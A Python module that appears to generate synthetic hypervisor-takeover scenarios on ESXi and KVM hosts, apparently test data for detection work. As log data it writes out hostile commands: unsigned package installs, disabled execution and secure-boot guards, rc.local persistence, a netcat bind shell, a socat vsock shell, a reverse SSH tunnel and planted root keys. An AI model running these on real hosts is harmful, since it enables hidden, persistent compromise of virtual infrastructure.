"""Somebody takes over a hypervisor itself (job hyperjacking): foreign software, hidden machines, foreign hosts, changes no log tells.

What they do is what reports tell of UNC3886 (VIRTUALPITA, VIRTUALPIE), the Python backdoor of 2022, the intrusion at MITRE, extortionists
on ESXi, and of rootkits below a kernel. What looks alike and is none: benign_hosts.py.
"""

from __future__ import annotations

from datetime import datetime, timedelta

from . import doings as do
from .benign_hosts import NEGATIVES as NEGATIVES
from .lines import audit_record
from .parts import HOUR, VIEWS, Case, Host, Vm
from .world import World

JOB = "hyperjacking"


def implant(world: World, time: datetime) -> None:
    """An unsigned package is forced in, and a start script written: the way of VIRTUALPITA."""
    host, case = _host(world, time, "esxi", "esxi_implant")
    do.command(world, time, host.name, "esxcli software vib install -v /tmp/lsu.vib --force --no-sig-check", case=case)
    do.vob(world, time + do.seconds(2), host.name, "esx.audit.esximage.install.nosigcheck", "Attempting to install an image profile "
           "bypassing signing and acceptance level verification. This may pose a large security risk.", case)
    _persist(world, _soon(world, time, 20), host, case)


def hidden_machine(world: World, time: datetime) -> None:
    """Binaries allowed to run unsigned, then a machine that runs on the host and that neither host nor manager lists."""
    host, case = _host(world, time, "esxi", "esxi_hidden_machine")
    _unsigned_allowed(world, time, host, case)
    hidden = _machine(world, time, host, case)
    world.unlisted[hidden.name] = (time, ("manager", "registered"))


def night_machine(world: World, time: datetime) -> None:
    """A machine of the intruder is started from the shell when it is needed, and from the host's start script (as at MITRE in 2024)."""
    host, case = _host(world, time, "esxi", "esxi_machine_by_night")
    do.command(world, time, host.name, "/bin/vmx -x /vmfs/volumes/ds03/.cache/node.vmx 2>/dev/null 0>/dev/null &", case=case)
    later = _soon(world, time, 10)
    line = "/bin/vmx -x /vmfs/volumes/ds03/.cache/node.vmx"
    do.command(world, later, host.name, f"sed -i 's#^exit 0#{line}#' /etc/rc.local.d/local.sh", case=case)


def foreign_host(world: World, time: datetime) -> None:
    """A host that nobody knows joins, and its attestation fails."""
    case = world.case(JOB, "foreign_host")
    name, user = f"esx{90 + world.rng.randrange(9)}", world.take_person().corp
    case.names(host=name)
    fqdn = f"{name}.dc1.example.org"
    do.event(world, time, "HostAddedEvent", user, f"Added host {fqdn} to datacenter DC1", case)
    do.told(world, time + do.seconds(41), fqdn, "com.vmware.vc.host.TPMAttestationFailedEvent", "Host TPM attestation failed", case)


def unlogged(world: World, time: datetime) -> None:
    """Two inventories differ and no event tells why (the logs of the change were kept away); the host's guard went down before."""
    host, case = _host(world, time, "esxi", "unlogged_change")
    _boot_unguarded(world, time, host, case)
    until = world.end - timedelta(minutes=1)
    away = [vm for vm in world.untouched(time - HOUR, until, kind="esxi") if world.where(vm.name, time) != host.name]
    vm = world.rng.choice(away)
    world.use(vm.name)
    case.names(vm=vm.name)
    world.unlogged[vm.name] = (time + HOUR, host.name)


def unlogged_removal(world: World, time: datetime) -> None:
    """The same, and a machine is gone from every list."""
    host, case = _host(world, time, "esxi", "unlogged_removal")
    _boot_unguarded(world, time, host, case)
    vm = world.take_vm(time - HOUR, world.end - timedelta(minutes=1), host=host.name)
    case.names(vm=vm.name)
    world.unlisted[vm.name] = (time + HOUR, VIEWS)


def kvm_rootkit(world: World, time: datetime) -> None:
    """A kernel module from /tmp, and a program of nobody that opens /dev/kvm."""
    host, case = _host(world, time, "kvm", "kvm_rootkit")
    _module(world, time, host, case)
    do.records(world, time + timedelta(hours=1), host.name, "type=SYSCALL msg={stamp}: arch=c000003e syscall=257 success=yes exit=3 "
               "a0=55f1 a1=7ffc a2=0 a3=0 items=1 ppid=6234 pid=6235 auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 "
               'sgid=1000 fsgid=1000 tty=pts0 ses=4 comm="vmm" exe="/tmp/.cache/vmm" key="kvm_device"',
               'type=CWD msg={stamp}: cwd="/root"',
               'type=PATH msg={stamp}: item=0 name="/dev/kvm" inode=131 dev=00:06 mode=020660 ouid=0 ogid=107 rdev=0a:e8 nametype=NORMAL '
               "cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0", case=case)


def layer_below(world: World, time: datetime) -> None:
    """Another kernel takes the running one's place and puts the system on a layer of its own; from then on its clock stumbles."""
    host, case = _host(world, time, "kvm", "kvm_layer_below")
    do.run(world, time, host.name, 1000, "kexec", "-e", exe="/usr/sbin/kexec", case=case)
    for nth in range(3):
        do.kernel(world, _soon(world, time, 4) + nth * HOUR, host.name, f"clocksource: timekeeping watchdog on CPU{nth}: Marking "
                  "clocksource 'tsc' as unstable because the skew is too large:", case)


def kvm_channel(world: World, time: datetime) -> None:
    """A module from /tmp, and a door to the guests that no network sees (as VIRTUALPIE has one)."""
    host, case = _host(world, time, "kvm", "kvm_channel_to_guests")
    _module(world, time, host, case)
    do.run(world, _soon(world, time, 6), host.name, 1000, "socat", "VSOCK-LISTEN:4444,fork", "EXEC:/bin/bash", case=case)


def kvm_foothold(world: World, time: datetime) -> None:
    """The confinement of guests is switched off, and days later a guest's process runs a shell."""
    host, case = _host(world, time, "kvm", "kvm_confinement_off")
    do.records(world, time, host.name, "type=MAC_STATUS msg={stamp}: enforcing=0 old_enforcing=1 auid=1000 ses=4 enabled=1 old-enabled=1 "
               "lsm=selinux res=1", case=case)
    do.records(world, _soon(world, time, 30), host.name, "type=SYSCALL msg={stamp}: arch=c000003e syscall=59 success=yes exit=0 a0=55f1 "
               "a1=7ffc a2=0 a3=0 items=2 ppid=6234 pid=6235 auid=4294967295 uid=64055 gid=64055 euid=64055 suid=64055 fsuid=64055 "
               'egid=64055 sgid=64055 fsgid=64055 tty=(none) ses=4294967295 comm="dash" exe="/usr/bin/dash" key="qemu_user_exec"',
               'type=EXECVE msg={stamp}: argc=3 a0="/bin/sh" a1="-c" a2="id"', case=case)


def python_backdoor(world: World, time: datetime) -> None:
    """A web server of the intruder behind the host's own proxy (the Python backdoor that Juniper found in 2022)."""
    host, case = _host(world, time, "esxi", "esxi_backdoor_behind_proxy")
    do.command(world, time, host.name, "echo '/x local 8089 allow allow' >> /etc/vmware/rhttpproxy/endpoints.conf", case=case)
    do.command(world, _soon(world, time, 1), host.name, "nohup nc -lk -p 8089 -e /bin/sh > /dev/null &", case=case)


def key_and_tunnel(world: World, time: datetime) -> None:
    """A key of one's own for root, and a way out through a tunnel (what extortionists keep on hosts)."""
    host, case = _host(world, time, "esxi", "esxi_key_and_tunnel")
    _key(world, time, host, case)
    do.command(world, _soon(world, time, 12), host.name, "ssh -fN -R 127.0.0.1:9050 ops@203.0.113.66", case=case)


def key_and_program(world: World, time: datetime) -> None:
    """A key of one's own for root, and a program that nobody installed."""
    host, case = _host(world, time, "esxi", "esxi_key_and_program")
    _key(world, time, host, case)
    do.vob(world, _soon(world, time, 24), host.name, "esx.audit.uw.security.execInstalledOnly.warning",
           f"Execution of unknown (non VIB installed) binary '/store/.d/agent'. {do.MALWARE}", case)


def boot_image(world: World, time: datetime) -> None:
    """Software of lower acceptance is let in, and a saved state of one's own put into the boot image."""
    host, case = _host(world, time, "esxi", "esxi_boot_image")
    _accept(world, time, host, case)
    do.command(world, _soon(world, time, 3), host.name, "cp /tmp/state.tgz /bootbank/state.tgz", case=case)


def supershell(world: World, time: datetime) -> None:
    """The security domains of the host's programs are no longer kept apart, and somebody opens the shell above them."""
    host, case = _host(world, time, "esxi", "esxi_shell_above_domains")
    do.vob(world, time, host.name, "esx.audit.uw.secpolicy.alldomains.level.changed", "The enforcement level for all security domains has "
           "been changed to disabled. The enforcement level must always be set to enforcing.", case)
    do.vob(world, _soon(world, time, 2), host.name, "esx.audit.supershell.access", "Supershell session has been started by a user.", case)


def managed_elsewhere(world: World, time: datetime) -> None:
    """A vCenter of the intruder takes a host over, with the account that the true one left on it."""
    host, case = _host(world, time, "esxi", "host_managed_elsewhere")
    text = "SSH session was opened for 'vpxuser@203.0.113.44'."
    do.told(world, time, host.fqdn, "esx.audit.ssh.session.opened", text, case)
    do.event(world, time + timedelta(minutes=30), "HostCnxFailedAlreadyManagedEvent", "", f"Cannot connect host {host.fqdn} in DC1: "
             "already being managed by 203.0.113.45", case, "error")


def discovered(world: World, time: datetime) -> None:
    """On a host on which a foreign program was started vCenter discovers a machine that it did not make."""
    host, case = _host(world, time, "esxi", "machine_discovered")
    do.command(world, time, host.name, "chmod +x /tmp/stage2", case=case)
    later = _soon(world, time, 2)
    new = _machine(world, later, host, case)
    do.event(world, later, "VmDiscoveredEvent", "", f"Discovered {new.name} on {host.fqdn} in DC1", case)


def on_the_wire(world: World, time: datetime) -> None:
    """A rootkit hides a machine from every list of its host; the switch sees it."""
    host, case = _host(world, time, "esxi", "machine_on_the_wire_only")
    _unsigned_allowed(world, time, host, case)
    hidden = _machine(world, time, host, case)
    world.unlisted[hidden.name] = (time, ("manager", "registered", "running"))


def past_the_manager(world: World, time: datetime) -> None:
    """A machine is registered at its host alone, and the agent that would tell the manager is turned aside."""
    host, case = _host(world, time, "esxi", "machine_past_the_manager")
    do.command(world, time, host.name, "echo '/vpxa local 8090 allow allow' >> /etc/vmware/rhttpproxy/endpoints.conf", case=case)
    new = _machine(world, time, host, case)
    world.unlisted[new.name] = (time, ("manager",))


def taken_away(world: World, time: datetime) -> None:
    """A program of the intruder stands in for a machine: the manager has it on, and on the host it no longer runs."""
    host, case = _host(world, time, "esxi", "machine_taken_away")
    do.command(world, time, host.name, "chmod 755 /vmfs/volumes/ds01/.t/shim; /vmfs/volumes/ds01/.t/shim &", case=case)
    vm = world.take_vm(time - HOUR, world.end - timedelta(minutes=1), host=host.name)
    case.names(vm=vm.name)
    world.unlisted[vm.name] = (time, ("running", "wire"))


def twin(world: World, time: datetime) -> None:
    """A copy of a machine is registered under another name by a stolen account, on a host to which the intruder has a key."""
    host, case = _host(world, time, "esxi", "machine_copied")
    _key(world, time, host, case)
    copied = world.rng.choice([vm for vm in world.untouched(time - HOUR, world.end - timedelta(minutes=1), kind="esxi")
                               if world.where(vm.name, time) != host.name])
    later = _soon(world, time, 3)
    new = _machine(world, later, host, case, copied.uuid)
    world.use(copied.name)
    case.names(vm=copied.name)
    user = world.rng.choice(world.people[:12]).corp
    do.event(world, later, "VmRegisteredEvent", user, f"Registered {new.name} on {host.fqdn} in DC1", case)


def impostor(world: World, time: datetime) -> None:
    """A host was put up anew from a copy of another one: it is not attested, and has the hardware of the other."""
    host, case = _host(world, time, "esxi", "host_impostor")
    copied = world.rng.choice([other for other in world.hosts.values() if other.kind == "esxi" and other is not host])
    do.told(world, time, host.fqdn, "com.vmware.vc.TaHostAttestUnsetEvent", "The attestation status of the host is unset.", case)
    world.impostors[host.name] = (time, copied.uuid)


ATTACKS = (implant, hidden_machine, night_machine, foreign_host, unlogged, unlogged_removal, kvm_rootkit, layer_below, kvm_channel,
           kvm_foothold, python_backdoor, key_and_tunnel, key_and_program, boot_image, supershell, managed_elsewhere, discovered,
           on_the_wire, past_the_manager, taken_away, twin, impostor)


def _host(world: World, time: datetime, kind: str, attack: str) -> tuple[Host, Case]:
    host, case = world.take_host(kind, time), world.case(JOB, attack)
    case.names(host=host.name)
    return host, case


def _soon(world: World, time: datetime, hours: float) -> datetime:
    """Some time later; nobody does all at once."""
    return time + timedelta(hours=world.rng.uniform(0.05, hours))


def _machine(world: World, time: datetime, host: Host, case: Case, uuid: str | None = None) -> Vm:
    """A machine of the intruder."""
    name = f"node-{world.rng.randrange(10**6):06d}"
    made = world.new_vm(name, "esxi", "infra", "infra-mgmt", "mgmt", "hidden", time, host.name, uuid=uuid)
    world.use(made.name)
    case.names(vm=made.name)
    return made


def _accept(world: World, time: datetime, host: Host, case: Case) -> None:
    do.command(world, time, host.name, "esxcli software acceptance set --level=CommunitySupported", case=case)
    do.vob(world, time + do.seconds(1), host.name, "esx.audit.esximage.hostacceptance.changed",
           "Host acceptance level changed from PartnerSupported to CommunitySupported", case)


def _unsigned_allowed(world: World, time: datetime, host: Host, case: Case) -> None:
    do.command(world, time, host.name, "esxcli system settings advanced set -o /User/execInstalledOnly -i 0", case=case)
    do.vob(world, time + do.seconds(1), host.name, "esx.audit.uw.security.User.ExecInstalledOnly.disabled", "ExecInstalledOnly has been "
           f"disabled. This allows the execution of non-installed binaries on the host. {do.MALWARE}", case)


def _boot_unguarded(world: World, time: datetime, host: Host, case: Case) -> None:
    do.command(world, time, host.name, "esxcli system settings encryption set --require-secure-boot=F", case=case)
    world.write(do.ESXI, audit_record(time + do.seconds(1), host.name, "configenc.reqsb.disable", subject="root",
                                      object="RequireSecureBoot", result="success", ip="192.0.2.10", opID="esxcli-31"), case=case)


def _persist(world: World, time: datetime, host: Host, case: Case) -> None:
    do.command(world, time, host.name, 'echo "nohup /bin/python /store/packages/x.py &" >> /etc/rc.local.d/local.sh', case=case)


def _key(world: World, time: datetime, host: Host, case: Case) -> None:
    do.command(world, time, host.name, 'echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAB x" >> /etc/ssh/keys-root/authorized_keys', case=case)


def _module(world: World, time: datetime, host: Host, case: Case) -> None:
    do.records(world, time, host.name, "type=SYSCALL msg={stamp}: arch=c000003e syscall=313 success=yes exit=0 a0=3 a1=0 a2=0 a3=0 items=0 "
               "ppid=6234 pid=6235 auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=4 comm=\"insmod\" "
               'exe="/usr/bin/kmod" key="modules"', 'type=KERN_MODULE msg={stamp}: name="rk"', case=case)
